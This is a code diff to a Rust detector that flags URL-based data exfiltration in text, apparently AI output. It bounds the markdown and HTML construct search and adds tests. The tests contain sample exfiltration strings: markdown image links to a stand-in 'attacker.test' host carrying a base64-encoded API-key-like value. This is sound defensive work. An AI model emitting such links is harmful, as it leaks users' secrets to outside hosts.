@@ -11,7 +11,9 @@
 //! path segment of at least 16 characters that looks encoded (base64/hex/percent-encoded) or
 //! has high entropy, or at least 4 query parameters with values, or text that another
 //! detector would call PII (an `@` or a long digit run). Offsets span the URL (for images and
-//! links, the whole markdown or HTML construct).
+//! links, the whole markdown or HTML construct). A construct is looked for within 4 KiB of
+//! its URL (the `[` of a markdown link on the same line, the closing `)` or `>`), so the
+//! time a text takes grows with its length, not with its length times its URLs.
 
 use llmtrail_core::{FindingCategory, Severity};
 
@@ -223,8 +225,14 @@ fn find_urls(text: &str) -> Vec<Found> {
     let bytes = text.as_bytes();
     let mut out: Vec<Found> = Vec::new();
     let mut at = 0;
-    while let Some(rel) = find_scheme(&text[at..]) {
-        let url_start = at + rel;
+    for sep in memchr::memmem::find_iter(bytes, b"://") {
+        let Some(url_start) = scheme_start(bytes, sep) else {
+            continue;
+        };
+        if url_start < at {
+            // Inside the previous URL (`…?next=https://…`).
+            continue;
+        }
         let mut url_end = url_start;
         for (i, c) in text[url_start..].char_indices() {
             if c.is_whitespace() || matches!(c, ')' | '"' | '\'' | '<' | '>' | ']' | '`') {
@@ -252,21 +260,30 @@ fn find_urls(text: &str) -> Vec<Found> {
     out
 }
 
-fn find_scheme(text: &str) -> Option<usize> {
-    let lower_http = text.find("http://");
-    let lower_https = text.find("https://");
-    let upper = text.find("HTTP");
-    [lower_http, lower_https, upper]
+/// Where `http://` or `https://` (all lowercase or all uppercase) starts, given the
+/// position of its `://`.
+fn scheme_start(bytes: &[u8], sep: usize) -> Option<usize> {
+    [(5, b"https", b"HTTPS"), (4, b"http\0", b"HTTP\0")]
         .into_iter()
-        .flatten()
-        .filter(|&i| {
-            let t = &text[i..];
-            t.starts_with("http://")
-                || t.starts_with("https://")
-                || t.starts_with("HTTP://")
-                || t.starts_with("HTTPS://")
+        .find_map(|(len, lower, upper)| {
+            let start = sep.checked_sub(len)?;
+            let scheme = &bytes[start..sep];
+            (scheme == &lower[..len] || scheme == &upper[..len]).then_some(start)
         })
-        .min()
+}
+
+/// How far from a URL its markdown or HTML construct is looked for (on the same line for
+/// markdown): the searches stay bounded, so a text of many URLs costs time in proportion
+/// to its length.
+const CONSTRUCT_REACH: usize = 4096;
+
+/// The part of `text[from..]` within [`CONSTRUCT_REACH`] bytes, cut on a character boundary.
+fn ahead(text: &str, from: usize) -> &str {
+    let mut end = (from + CONSTRUCT_REACH).min(text.len());
+    while !text.is_char_boundary(end) {
+        end -= 1;
+    }
+    &text[from..end]
 }
 
 /// Decides how the URL at `url_start..url_end` appears and the span of that construct.
@@ -275,12 +292,17 @@ fn construct(text: &str, url_start: usize, url_end: usize) -> (Form, usize, usiz
     let trimmed = before.trim_end_matches([' ', '<']);
     if let Some(open) = trimmed.strip_suffix("](") {
         // Markdown: find the matching `[` (and a `!` before it for images) on the same line.
-        if let Some(bracket) = open.rfind('[')
+        let mut from = open.len().saturating_sub(CONSTRUCT_REACH);
+        while !open.is_char_boundary(from) {
+            from += 1;
+        }
+        if let Some(bracket) = open[from..].rfind('[').map(|i| from + i)
             && !open[bracket..].contains('\n')
         {
-            let close = text[url_end..]
+            let after = ahead(text, url_end);
+            let close = after
                 .find(')')
-                .filter(|&i| !text[url_end..url_end + i].contains('\n'))
+                .filter(|&i| !after[..i].contains('\n'))
                 .map_or(url_end, |i| url_end + i + 1);
             if bracket > 0 && open.as_bytes()[bracket - 1] == b'!' {
                 return (Form::MarkdownImage, bracket - 1, close);
@@ -298,7 +320,7 @@ fn construct(text: &str, url_start: usize, url_end: usize) -> (Form, usize, usiz
         && !window[tag..].contains('>')
         && window[tag..].to_ascii_lowercase().contains("src")
     {
-        let close = text[url_end..]
+        let close = ahead(text, url_end)
             .find('>')
             .map_or(url_end, |i| url_end + i + 1);
         return (Form::HtmlImage, window_start + tag, close);
@@ -384,6 +406,41 @@ mod tests {
         let h = scan(&d, "![logo](https://x.test/logo.png)");
         assert_eq!(h[0].kind, "external_image");
         assert_eq!(h[0].severity, Severity::Low);
+    }
+
+    #[test]
+    fn constructs_are_looked_for_near_their_url() {
+        let d = Exfiltration::new(Vec::<String>::new());
+        let data = "?d=c2stcHJvai1hYmNkZWZnaGlqa2xtbm9w";
+        // A `[` further back than the reach: the URL is reported bare.
+        let far = format!(
+            "![{}](https://attacker.test/p.png{data}) end",
+            "x".repeat(5000)
+        );
+        let hits = scan(&d, &far);
+        assert_eq!(hits.len(), 1);
+        assert_eq!(hits[0].kind, "url_data_exfiltration");
+        // Near: the whole image.
+        let near = format!(
+            "![{}](https://attacker.test/p.png{data}) end",
+            "x".repeat(100)
+        );
+        let hits = scan(&d, &near);
+        assert_eq!(hits[0].kind, "markdown_image_exfiltration");
+        assert_eq!(hits[0].start, 0);
+        // A URL inside another one's query is part of it, not a second finding.
+        let nested = format!("see https://a.test/r{data}&next=https://b.test/x{data} now");
+        assert_eq!(scan(&d, &nested).len(), 1);
+    }
+
+    #[test]
+    fn many_urls_in_one_text_are_each_found() {
+        let d = Exfiltration::new(Vec::<String>::new());
+        let one = "](https://attacker.test/p.png?d=c2stcHJvai1hYmNkZWZnaGlqa2xtbm9w ";
+        let text = one.repeat(2000);
+        assert_eq!(scan(&d, &text).len(), 2000);
+        let upper = "HTTPS://attacker.test/p?d=c2stcHJvai1hYmNkZWZnaGlqa2xtbm9w http://x ";
+        assert_eq!(scan(&d, &upper.repeat(100)).len(), 100);
     }
 
     #[test]
